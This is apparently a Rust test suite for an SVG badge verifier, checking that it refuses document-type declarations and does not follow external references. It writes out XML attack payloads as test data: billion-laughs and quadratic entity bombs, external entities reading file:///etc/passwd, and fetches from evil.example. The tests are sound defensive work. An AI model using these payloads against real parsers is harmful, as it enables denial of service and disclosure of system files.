//! Attacks by SVG pictures.

use crate::forge::school_token;
use crate::forge::svg::{DECLARED, drawing, with_json, with_token};
use crate::forms::{Case, hold};
use crate::vector_set::VectorSet;

use super::*;

/// The bombs and entities of the XML corpus within a picture that carries a good badge.
/// Forms: library, command line, HTTP.
#[tokio::test]
async fn attack_i_06_a_document_type_ends_the_reading() {
    let mut cases = Case::fixtures(&["refused/svg.dtd_not_allowed"]);
    let good = drawing(DECLARED, &with_token(&school_token()));
    let laughs: String = (0..40)
        .map(|n| format!("<!ENTITY l{} \"{}\">", n + 1, format!("&l{n};").repeat(10)))
        .collect();
    for (name, before) in [
        ("empty", "<!DOCTYPE svg>".to_owned()),
        ("a billion laughs", format!("<!DOCTYPE svg [<!ENTITY l0 \"ha\">{laughs}]>")),
        ("quadratic", format!("<!DOCTYPE svg [<!ENTITY a \"{}\">]>", "a".repeat(100_000))),
        ("a file", "<!DOCTYPE svg [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>".to_owned()),
        ("a parameter", "<!DOCTYPE svg [<!ENTITY % a SYSTEM \"http://evil.example/a.dtd\"> %a;]>".to_owned()),
        ("elsewhere", "<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">".to_owned()),
    ] {
        cases.push(Case::new(name, before + &good, "refused/svg.dtd_not_allowed"));
    }
    let set = VectorSet::open("xml");
    let mut with_type = 0;
    for name in set.names() {
        let bytes = set.bytes(name);
        let is_type = bytes.windows(9).any(|part| part == b"<!DOCTYPE");
        if !is_type
            || !name.contains("dtd")
                && !name.contains("entity")
                && !name.contains("bomb")
                && !name.contains("quadratic")
        {
            continue;
        }
        with_type += 1;
        // In front of the picture, where a document type stands.
        let text = String::from_utf8_lossy(&bytes).into_owned();
        let declared = &text[text.find("<!DOCTYPE").expect("found")..];
        let end = declared
            .find("]>")
            .map(|at| at + 2)
            .or_else(|| declared.find('>').map(|at| at + 1));
        let Some(end) = end else { continue };
        let told = match declared.starts_with("<!DOCTYPE html") {
            // It says itself that it is a page.
            true => "refused/input.unsupported",
            false => "refused/svg.dtd_not_allowed",
        };
        cases.push(Case::new(name, format!("{}{good}", &declared[..end]), told));
    }
    assert!(with_type > 5, "{with_type}");
    hold("I-06", &cases).await;
}

/// Forms: library, command line, HTTP.
#[tokio::test]
async fn attack_i_07_what_a_picture_refers_to_is_not_read() {
    let mut cases = Vec::new();
    for (name, links) in [
        ("an image", "<image href=\"http://evil.example/a.png\"/>"),
        ("a file", "<use href=\"file:///etc/passwd#a\"/>"),
        ("itself", "<g id=\"a\"><use href=\"#a\"/></g>"),
        (
            "a style",
            "<style>@import url(http://evil.example/a.css);</style>",
        ),
        (
            "an inclusion",
            "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>",
        ),
        (
            "data",
            "<image href=\"data:image/svg+xml;base64,PHN2Zy8+\"/>",
        ),
        (
            "a picture in it",
            "<foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"https://evil.example/\"/></foreignObject>",
        ),
    ] {
        let picture = drawing(DECLARED, &(with_token(&school_token()) + links));
        cases.push(Case::new(name, picture, "verified"));
    }
    hold("I-07", &cases).await;
}

/// Forms: library, command line, HTTP.
#[tokio::test]
async fn attack_i_08_an_svg_shows_one_badge() {
    let fixtures = Case::fixtures(&[
        "refused/bake.ambiguous",
        "refused/bake.missing",
        "refused/bake.encoding",
        "verified/baked-twice-alike.svg",
    ]);
    let mut cases: Vec<Case> = fixtures
        .into_iter()
        .filter(|case| case.name.ends_with(".svg"))
        .collect();
    let (one, other) = one_and_other();
    for (name, content, told) in [
        (
            "two",
            with_json(&one) + &with_json(&other),
            "refused/bake.ambiguous",
        ),
        (
            "swapped",
            with_json(&other) + &with_json(&one),
            "refused/bake.ambiguous",
        ),
        (
            "token and text",
            with_token(&school_token()) + &with_json(&other),
            "refused/bake.ambiguous",
        ),
        (
            "both in one",
            "<openbadges:credential verify=\"a.b.c\"><![CDATA[{}]]></openbadges:credential>"
                .to_owned(),
            "refused/bake.ambiguous",
        ),
        (
            "in a comment",
            format!("<!--{}-->", with_token(&school_token())),
            "refused/bake.missing",
        ),
        (
            "a section that ends early",
            with_json("]]>{}"),
            "refused/json.syntax",
        ),
    ] {
        cases.push(Case::new(name, drawing(DECLARED, &content), told));
    }
    hold("I-08", &cases).await;
}
